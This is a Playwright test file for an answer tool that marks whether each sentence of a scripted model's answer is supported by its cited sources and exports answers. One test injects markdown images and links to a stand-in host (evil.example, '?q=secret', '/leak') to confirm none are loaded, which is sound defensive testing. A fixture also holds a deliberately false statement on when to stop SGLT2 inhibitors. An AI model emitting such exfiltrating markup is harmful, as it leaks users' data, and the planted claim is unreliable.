import { readFileSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { extractDocument } from "../ingest/extract/extract";
import { type Message, type ScriptedServer, startScriptedServer } from "../lib/answer/generate/testing";
import { type Product, removeDataFolder } from "./product";
import { ask, expectAccessible, READER, signIn, startSeededProduct, watchPage } from "./support";

/** Answers of a model server that writes what the test says: their marks, what replaces them, and their exports. */
const QUESTION = "How long before an operation must SGLT2 inhibitors be stopped?";
const TRUE = "SGLT2 inhibitors are stopped 3 days before surgery [1].";
const FALSE = "Children stop them 30 minutes before [1].";
let scene: { pieces: readonly string[] } = { pieces: [] };
let server: ScriptedServer;
let product: Product;

test.beforeAll(async () => {
  test.setTimeout(240_000);
  server = await startScriptedServer((messages) => ({
    pieces: scene.pieces.map((piece) => piece.replaceAll("[1]", `[${rightPassage(messages)}]`)),
  }));
  product = await startSeededProduct({ INTRAMUROS_MODEL_SERVER_URL: server.url });
});
test.afterAll(async () => {
  await product.stop();
  await server.close();
  removeDataFolder(product.dataDir);
});

/** Number of the first passage put before the model that holds the answer. */
function rightPassage(messages: readonly Message[]): string {
  const passages =
    messages
      .at(-1)
      ?.content.split(/<passage-\w+ number="/)
      .slice(1) ?? [];
  return passages.find((passage) => passage.includes("3 days before surgery"))?.split('"')[0] ?? "1";
}

async function asked(page: Page, pieces: readonly string[]): Promise<void> {
  scene = { pieces };
  await signIn(page, product, READER);
  await ask(page, QUESTION);
}

test("each sentence shows whether its source bears it out, and why not", async ({ page }) => {
  const seen = watchPage(page, product);
  await asked(page, [TRUE, " ", FALSE, " Everybody knows that."]);
  const answer = page.getByTestId("answer");
  await expect(answer.getByText("Supported by the cited passage")).toBeAttached();
  await expect(answer.getByText("not supported")).toHaveCount(2);
  const doubts = page.getByRole("region", { name: "Check these before you rely on them" });
  await expect(doubts).toContainText("30 minutes");
  await expect(doubts).toContainText("It cites no source.");
  await expect(page.getByText(/Written by scripted-model/)).toBeVisible();
  for (const colorScheme of ["light", "dark"] as const) {
    for (const width of [1440, 390]) {
      await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
      await page.setViewportSize({ width, height: 900 });
      await expectAccessible(page);
      await page.screenshot({
        path: `test-results/answer-marks-${colorScheme}-${width}.png`,
        fullPage: true,
      });
    }
  }
  expect(seen).toEqual({ outside: [], refused: [], errors: [] });
});

for (const [name, pieces, notice] of [
  ["cites nothing", ["Stop them whenever you like."], /cited no source and was set aside/],
  [
    "cites what it was not given",
    [`${TRUE} Ask the pharmacy [42].`],
    /not among the passages and was set aside/,
  ],
  ["does not end", [TRUE, " ", TRUE, " ", TRUE, " ", TRUE], /did not come to an end and was set aside/],
] as const) {
  test(`a model that ${name} is set aside for quotes, and the page says so`, async ({ page }) => {
    await asked(page, pieces);
    await expect(page.getByText(notice)).toBeVisible();
    await expect(page.getByText("Quoted word for word from the documents")).toBeVisible();
    await expect(page.getByRole("button", { name: /^Source 1: / }).first()).toBeVisible();
  });
}

test("markup in a model's answer loads nothing and links nowhere", async ({ page }) => {
  const seen = watchPage(page, product);
  await asked(page, [
    "SGLT2 inhibitors are stopped 3 days before ![x](https://evil.example/p.png?q=secret) surgery [1]. ",
    'See [the protocol](https://evil.example/leak) <img src="https://evil.example/i.png"> before the operation [1].',
  ]);
  const main = page.getByRole("main");
  await expect(main.getByText("evil.example").first()).toBeVisible();
  await expect(main.locator('a[href*="evil"], img[src*="evil"]')).toHaveCount(0);
  expect(seen.outside).toEqual([]);
});

test("an answer is taken away as PDF, Word and Markdown, with marks, sources and notice", async ({
  page,
}) => {
  await asked(page, [TRUE, " ", FALSE]);
  for (const [item, ending] of [
    ["PDF", "pdf"],
    ["Word (DOCX)", "docx"],
    ["Markdown", "md"],
  ] as const) {
    await page.getByRole("button", { name: "Export", exact: true }).click();
    if (ending === "pdf") {
      await expect(page.getByRole("menuitem", { name: "PDF" })).toBeVisible();
      await expectAccessible(page);
      await page.screenshot({ path: "test-results/export-menu.png" });
    }
    const download = page.waitForEvent("download");
    await page.getByRole("menuitem", { name: item, exact: true }).click();
    const file = await download;
    expect(file.suggestedFilename()).toBe(`${QUESTION.replace("?", "_")}.${ending}`);
    const { pages } = await extractDocument(
      new Uint8Array(readFileSync(await file.path())),
      `export.${ending}`,
    );
    const text = pages
      .map((one) => one.text)
      .join("\n")
      .replace(/\s+/gu, " ")
      .replaceAll("\\", "");
    for (const part of [
      QUESTION,
      "SGLT2 inhibitors are stopped 3 days before surgery.",
      "(not supported)",
      "“30 minutes”",
      "SHA-256",
      "Hospital (sample)",
      "Written by the model scripted-model",
      "Access to every cited passage was checked again",
    ])
      expect(text, ending).toContain(part);
  }
});

test("a whole conversation is taken away from its menu", async ({ page }) => {
  await asked(page, [TRUE]);
  await page
    .getByRole("button", { name: /^More for/ })
    .first()
    .click();
  const download = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: "Markdown" }).click();
  expect(readFileSync(await (await download).path(), "utf8")).toContain(`## ${QUESTION}`);
});
